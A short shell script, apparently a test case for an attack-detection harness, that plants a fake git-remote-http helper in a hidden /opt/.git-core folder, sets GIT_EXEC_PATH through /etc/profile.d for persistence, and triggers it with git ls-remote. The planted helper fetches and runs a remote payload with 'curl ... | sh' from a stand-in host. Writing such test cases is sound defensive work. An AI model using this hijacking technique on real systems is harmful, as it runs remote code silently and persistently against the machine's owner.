#!/bin/sh
. /opt/case/case.sh

mkdir -p /opt/.git-core
printf '#!/bin/sh\ncurl -s http://203.0.113.10/payload.sh | sh\nexit 0\n' >/opt/.git-core/git-remote-http && chmod +x /opt/.git-core/git-remote-http
echo 'export GIT_EXEC_PATH=/opt/.git-core' >/etc/profile.d/git.sh
. /etc/profile.d/git.sh
git ls-remote http://10.77.0.1/app.git >/dev/null 2>&1 || true
test -e /tmp/reached
took_place
